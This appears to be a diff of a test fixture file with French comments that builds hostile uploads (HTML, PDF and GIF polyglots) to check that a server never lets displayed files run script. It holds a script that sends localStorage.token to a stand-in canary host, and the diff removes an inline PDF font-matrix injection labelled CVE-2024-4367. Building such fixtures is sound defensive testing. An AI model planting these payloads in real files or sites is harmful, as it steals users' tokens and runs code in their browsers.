@@ -1,9 +1,10 @@
 import { gif, jpeg, ole, openDocument, openXml, png } from "../server/testing/sample-files.ts";
+import { fontPdf } from "./hostile-font.ts";
 
 /** Another host: nothing that is shown may ever ask it for anything. */
 export const CANARY = "https://canari.example";
 
-const RUN = `(window.opener||window.parent||window).pwned=1;window.pwned=1;fetch('${CANARY}/jeton?'+localStorage.token)`;
+const RUN = `window.parent.pwned=1;window.pwned=1;fetch('${CANARY}/jeton?'+localStorage.token)`;
 const HTML = `<!doctype html><html><body onload="${RUN}"><script>${RUN}</script><img src="${CANARY}/x.png" onerror="${RUN}"><svg onload="${RUN}"></svg></body></html>`;
 /** Markup that is not the first thing in a text: that one is refused. */
 const LATE_HTML = `Ordre du jour\n${HTML}\n`;
@@ -22,16 +23,6 @@ const scriptedPdf = page(
   "/Annots[4 0 R 5 0 R]",
 );
 
-/** CVE-2024-4367: what stands in the matrix of a font was once compiled as JavaScript. */
-const fontPdf = page(
-  "",
-  "6 0 obj<</Type/Font/Subtype/Type1/BaseFont/Piege/FirstChar 0/LastChar 255/FontMatrix[0.1 0 0 0.1 0 (1\\);window.pwned=1;\\(1)]/FontDescriptor 7 0 R>>endobj\n" +
-    "7 0 obj<</Type/FontDescriptor/FontName/Piege/Flags 4/FontBBox[0 0 1 1]/ItalicAngle 0/Ascent 1/Descent 0/CapHeight 1/StemV 1/FontFile 9 0 R>>endobj\n" +
-    "8 0 obj<</Length 44>>stream\nBT /F1 24 Tf 2 Tr 20 40 Td (Bonjour) Tj ET    \nendstream endobj\n" +
-    "9 0 obj<</Length 120/Length1 120/Length2 0/Length3 0>>stream\n%!PS-AdobeFont-1.0: Piege\n/FontMatrix [0.1 0 0 0.1 0 (1\\);window.pwned=1;\\(1)] readonly def\ncurrentfile eexec\nendstream endobj\n",
-  "/Contents 8 0 R/Resources<</Font<</F1 6 0 R>>>>",
-);
-
 export interface HostileFile {
   name: string;
   data: Buffer;
@@ -40,7 +31,7 @@ export interface HostileFile {
 /** Files of types that are accepted, each of which some program has run. */
 export const HOSTILE_FILES: HostileFile[] = [
   { name: "script.pdf", data: Buffer.from(scriptedPdf) },
-  { name: "police.pdf", data: Buffer.from(fontPdf) },
+  { name: "police.pdf", data: fontPdf(RUN) },
   { name: "page.pdf", data: Buffer.from(`%PDF-1.4\n${HTML}\n%%EOF\n`) },
   { name: "page.gif", data: Buffer.concat([gif, Buffer.from(HTML)]) },
   { name: "commande.gif", data: Buffer.from(`GIF89a=1;${RUN}//${"\0".repeat(20)}`) },
